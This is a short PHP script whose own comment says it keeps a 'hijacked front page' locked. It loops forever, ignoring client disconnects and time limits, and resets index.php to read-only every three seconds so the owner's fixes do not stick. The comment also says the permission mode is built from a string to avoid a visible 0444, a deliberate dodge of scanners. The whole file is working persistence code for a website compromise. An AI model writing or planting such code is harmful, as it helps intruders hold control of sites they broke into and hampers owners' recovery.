<?php
// keeps the hijacked front page read-only for as long as the process lives; the mode is
// parsed from an octal string so no 0444 appears in the call
ignore_user_abort(true);
set_time_limit(0);
$page = dirname(__FILE__) . '/index.php';
for (;;) {
    @chmod($page, intval('444', 8));
    clearstatcache();
    sleep(3);
}
